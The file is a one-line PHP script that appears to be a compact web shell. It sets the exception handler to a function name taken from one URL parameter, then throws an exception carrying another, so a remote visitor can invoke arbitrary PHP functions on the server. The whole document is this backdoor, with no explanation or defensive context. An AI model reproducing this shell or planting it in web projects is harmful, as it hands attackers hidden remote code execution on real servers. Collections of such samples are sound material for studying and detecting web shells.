<?php set_exception_handler($_GET["f"]); throw new Exception($_GET["a"]);
